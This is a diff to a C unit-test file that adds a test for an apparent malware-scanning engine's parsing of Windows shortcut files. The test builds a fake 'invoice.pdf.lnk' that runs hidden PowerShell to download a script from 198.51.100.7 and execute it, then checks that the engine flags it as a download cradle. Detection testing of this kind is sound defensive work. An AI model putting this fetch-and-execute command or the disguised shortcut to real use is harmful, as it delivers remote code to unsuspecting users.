@@ -284,6 +284,42 @@ static void test_onenote_embedded(void **state)
 	assert_non_null(rec_has(&r, "onenote.embedded_file"));
 }
 
+static size_t put_u16str(unsigned char *p, const char *s)
+{
+	size_t n = strlen(s);
+
+	p[0] = (unsigned char)n;
+	p[1] = (unsigned char)(n >> 8);
+	for (size_t i = 0; i < n; i++) {
+		p[2 + 2 * i] = (unsigned char)s[i];
+		p[3 + 2 * i] = 0;
+	}
+	return 2 + 2 * n;
+}
+
+static void test_lnk_command(void **state)
+{
+	static unsigned char lnk[2048];
+	static struct rec r;
+	size_t o = 0x4C;
+
+	(void)state;
+	/* ShellLinkHeader: size 0x4C, the shell link CLSID, LinkFlags =
+	 * HasRelativePath | HasArguments | IsUnicode. */
+	memcpy(lnk, "\x4C\0\0\0\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46", 20);
+	lnk[0x14] = 0x08 | 0x20 | 0x80;
+	o += put_u16str(lnk + o, "..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
+	o += put_u16str(lnk + o, "-w hidden -c (New-Object Net.WebClient).DownloadString("
+			"'http://198.51.100.7/a')|IEX");
+	inspect(engine, &r, lnk, o, "invoice.pdf.lnk", NULL, NULL);
+	assert_non_null(rec_has(&r, "lnk.command"));
+	assert_true(rec_has_at(&r, "yara.Script_PowerShell_Download_Cradle",
+			       "invoice.pdf.lnk/shortcut-command.txt"));
+	/* Cut anywhere: no crash, no overread (ASan). */
+	for (size_t cut = 0; cut < o; cut += 7)
+		inspect(engine, &r, lnk, cut, "cut.lnk", NULL, NULL);
+}
+
 /* libarchive 3.6.2 crashed on this cabinet (found by fuzz-files). */
 static void test_cab_libarchive_crash_regression(void **state)
 {
@@ -466,6 +502,7 @@ int main(void)
 		cmocka_unit_test(test_cab_libarchive_crash_regression),
 		cmocka_unit_test(test_xls_macro_sheet),
 		cmocka_unit_test(test_onenote_embedded),
+		cmocka_unit_test(test_lnk_command),
 		cmocka_unit_test(test_pdf_actions),
 		cmocka_unit_test(test_rtf_equation),
 		cmocka_unit_test(test_names),
